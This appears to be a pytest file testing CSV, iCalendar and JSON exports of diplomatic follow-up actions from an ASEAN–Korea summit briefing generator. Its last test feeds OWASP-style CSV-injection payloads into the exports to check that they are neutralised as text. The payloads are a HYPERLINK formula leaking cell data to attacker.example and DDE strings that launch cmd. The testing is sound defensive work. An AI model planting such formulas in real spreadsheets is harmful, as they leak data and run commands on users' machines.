"""Exports beside each PDF: the follow-ups as CSV and iCalendar, the whole pack as JSON."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import shutil
from collections.abc import Callable
from pathlib import Path

import icalendar
import pytest

from generator.exports.files import due_date
from generator.render.html import partial_date
from tests.conftest import REPO, SEED_ID, SEED_PACK, Run, invoke
from tests.printing import SECOND_PACK
from tests.tables import table_rows


@pytest.fixture
def built(project: Path, briefs: Callable[..., Run]) -> Path:
    run = briefs("build", "--no-pdf", cwd=project)
    assert run.status == 0, run.stderr
    return project / "build"


@pytest.fixture(scope="module")
def both(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Both committed packs built; the second merges two reports of one action (F1)."""
    root = tmp_path_factory.mktemp("exports") / "project"
    for folder in ("seeds", "briefs"):
        shutil.copytree(REPO / folder, root / folder)
    run = invoke(["build", "--no-pdf"], cwd=root)
    assert run.status == 0, run.stderr
    return root / "build"


def printed_tracker(page: Path) -> list[dict[str, object]]:
    """The tracker rows of a pack's HTML as a reader sees them."""
    keys = ("number", "action", "owner", "due", "status")
    return [
        {**dict(zip(keys, row.cells, strict=False)), "sources": [text for _, text in row.links]}
        for row in table_rows(page.read_text("utf-8"), "tracker")
    ]


def csv_rows(path: Path) -> list[dict[str, str]]:
    raw = path.read_bytes().decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(raw, newline="")))


@pytest.mark.parametrize("slug", [SEED_PACK, SECOND_PACK])
def test_csv_rows_are_the_printed_tracker_rows(both: Path, slug: str) -> None:
    printed = printed_tracker(both / slug / "index.html")
    assert printed, "the pack prints a tracker"
    exported = [
        {
            "number": row["number"],
            "action": row["action"],
            "owner": row["owner"] or "—",
            "due": partial_date(row["due"]) or "—",
            "status": row["status"].replace("-", " "),
            "sources": row["sources"].split("\n"),
        }
        for row in csv_rows(both / f"{slug}.follow-ups.csv")
    ]
    assert exported == printed


def test_a_merged_row_is_one_line_with_every_source(both: Path) -> None:
    rows = csv_rows(both / f"{SECOND_PACK}.follow-ups.csv")
    assert [row["number"] for row in rows] == [f"F{n}" for n in range(1, len(rows) + 1)]
    first = rows[0]
    assert first["sources"].split("\n") == ["A2 ¶3", "A3 ¶3"]
    assert first["articles"].split("\n") == [
        "state-2022-07-05-travel-bali-bangkok",
        "state-2022-11-17-blinken-don-meeting",
    ]
    assert len(first["quotes"].split("\n")) == len(first["items"].split("\n")) == 2
    data = json.loads((both / f"{SECOND_PACK}.json").read_text("utf-8"))
    assert [row["number"] for row in data["follow_ups"]] == [row["number"] for row in rows]
    assert [s["ref"] for s in data["follow_ups"][0]["sources"]] == ["A2 ¶3", "A3 ¶3"]


def test_the_calendar_has_one_todo_per_dated_row(both: Path) -> None:
    data = json.loads((both / f"{SECOND_PACK}.json").read_text("utf-8"))
    dated = [row for row in data["follow_ups"] if row["due"]]
    ics = (both / f"{SECOND_PACK}.follow-ups.ics").read_bytes()
    todos = icalendar.Calendar.from_ical(ics).walk("VTODO")
    assert [str(t["SUMMARY"]) for t in todos] == [f"{r['number']}: {r['action']}" for r in dated]
    assert [str(t["UID"]) for t in todos] == [f"{r['id']}@{SECOND_PACK}.briefs" for r in dated]
    description = str(todos[0]["DESCRIPTION"])
    assert "Source A2 ¶3" in description and "Source A3 ¶3" in description


def test_follow_ups_csv(built: Path) -> None:
    raw = (built / f"{SEED_PACK}.follow-ups.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # a BOM, so spreadsheet programs read UTF-8
    rows = csv_rows(built / f"{SEED_PACK}.follow-ups.csv")
    assert [(r["number"], r["action"], r["due"], r["status"]) for r in rows] == [
        ("F1", "Upgrade the ASEAN–Korea Free Trade Agreement (AKFTA)", "2026", "open"),
        ("F2", "Implement the new ASEAN–ROK Work Plan 2026–2030", "2030", "open"),
        (
            "F3",
            "Accelerate negotiations on the Thailand–ROK Economic Partnership Agreement (EPA)",
            "",
            "open",
        ),
        (
            "F4",
            "Strengthen political and security cooperation against cybercrime and for maritime awareness",
            "",
            "open",
        ),
    ]
    assert rows[0]["items"] == f"{SEED_ID}-followup-1"
    assert rows[0]["quotes"] == "upgrading the ASEAN-Korea Trade Agreement (AKFTA) in 2026"
    assert rows[0]["sources"] == "A1 ¶4"
    assert b"\r\n" in raw


def test_follow_ups_icalendar(built: Path) -> None:
    calendar = icalendar.Calendar.from_ical((built / f"{SEED_PACK}.follow-ups.ics").read_bytes())
    assert calendar["VERSION"] == "2.0" and calendar["PRODID"]
    todos = calendar.walk("VTODO")
    assert len(todos) == 2  # one per dated follow-up; the undated two have no due date
    first = todos[0]
    assert first["SUMMARY"] == "F1: Upgrade the ASEAN–Korea Free Trade Agreement (AKFTA)"
    assert first.decoded("DUE") == dt.date(2026, 12, 31)
    assert first["STATUS"] == "NEEDS-ACTION"
    assert first["UID"] == f"{SEED_ID}-followup-1@{SEED_PACK}.briefs"
    assert first.decoded("DTSTAMP") == dt.datetime(2025, 10, 28, tzinfo=dt.UTC)
    assert "Due: 2026 (only the year is known; dated 2026-12-31 here)" in first["DESCRIPTION"]
    for todo in todos:  # what RFC 5545 requires of every VTODO
        assert {"UID", "DTSTAMP"} <= set(todo)
    assert todos[1].decoded("DUE") == dt.date(2030, 12, 31)


def test_icalendar_is_the_same_on_every_build(
    built: Path, project: Path, briefs: Callable[..., Run]
) -> None:
    first = (built / f"{SEED_PACK}.follow-ups.ics").read_bytes()
    again = briefs("build", "--no-pdf", "--force", cwd=project)
    assert again.status == 0 and "up to date" not in again.stderr
    assert (built / f"{SEED_PACK}.follow-ups.ics").read_bytes() == first


def test_pack_json(built: Path) -> None:
    data = json.loads((built / f"{SEED_PACK}.json").read_text(encoding="utf-8"))
    assert data["spec"]["title"] == "Thailand at the 26th ASEAN–Republic of Korea Summit"
    assert data["spec"]["prepared"]["for"] == "Minister of Foreign Affairs"
    assert data["topics"][0]["articles"] == [SEED_ID]
    article = data["articles"][0]
    assert (article["id"], article["label"], article["annotated"]) == (SEED_ID, "A1", True)
    kinds = [item["kind"] for item in article["items"]]
    assert (kinds.count("fact"), kinds.count("proposal"), kinds.count("follow_up")) == (8, 3, 4)
    fact = article["items"][0]
    assert (
        article["text"][fact["anchor"]["start"] : fact["anchor"]["end"]] == fact["anchor"]["text"]
    )
    assert fact["written_at"] == f"seeds/{SEED_ID}.ann.yaml:11:12"
    first = data["follow_ups"][0]
    assert (first["number"], first["id"]) == ("F1", f"{SEED_ID}-followup-1")
    assert [s["item"] for s in first["sources"]] == [f"{SEED_ID}-followup-1"]
    assert data["draft"] is False
    assert data["glossary"]["ROK"] == "Republic of Korea"


@pytest.mark.parametrize(
    ("due", "date"),
    [
        ("2026", dt.date(2026, 12, 31)),
        ("2026-02", dt.date(2026, 2, 28)),
        ("2028-02", dt.date(2028, 2, 29)),
        ("2026-03-05", dt.date(2026, 3, 5)),
    ],
)
def test_due_date_is_the_last_day_allowed(due: str, date: dt.date) -> None:
    assert due_date(due) == date


# OWASP, CSV injection: a cell that starts with one of these is a formula to a spreadsheet.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    ("action", "owner"),
    [
        ('=HYPERLINK("http://attacker.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "\r=1+1"),
    ],
)
def test_csv_cells_are_never_formulas(
    project: Path, briefs: Callable[..., Run], action: str, owner: str
) -> None:
    """Issue 12, class 4: every cell that could start a formula is neutralised (OWASP)."""
    annotation = project / "seeds" / f"{SEED_ID}.ann.yaml"
    text = annotation.read_text(encoding="utf-8")
    old = (
        "  - action: Upgrade the ASEAN–Korea Free Trade Agreement (AKFTA)\n    owner: ASEAN and ROK"
    )
    assert old in text
    new = f"  - action: {json.dumps(action)}\n    owner: {json.dumps(owner)}"
    annotation.write_text(text.replace(old, new), encoding="utf-8")
    run = briefs("build", "--no-pdf", cwd=project)
    assert run.status == 0, run.stderr
    raw = (project / "build" / f"{SEED_PACK}.follow-ups.csv").read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(raw, newline="")))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)], cells
    row = next(r for r in rows if r[1].endswith(action))
    assert row[1] == "'" + action  # kept, visibly, as text
    assert row[2] == "'" + owner
